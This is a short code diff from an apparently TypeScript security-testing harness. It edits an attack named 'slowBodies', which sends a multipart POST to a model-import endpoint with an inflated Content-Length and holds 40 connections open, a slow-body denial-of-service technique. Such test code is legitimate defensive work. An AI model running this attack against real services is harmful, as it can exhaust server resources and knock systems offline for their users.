@@ -136,7 +136,7 @@ const slowBodies: Attack = {
         `Host: ${host}`,
         `Origin: http://${host}`,
         `Cookie: ${cookie}`,
-        `Content-Type: ${form["content-type"]}`,
+        "Content-Type: multipart/form-data; boundary=b",
       ];
       const head = `POST /web/models/import HTTP/1.1\r\n${lines.join("\r\n")}\r\nContent-Length: 8000000\r\n\r\n`;
       return Array.from({ length: 40 }, () => holdOpen(port, head));
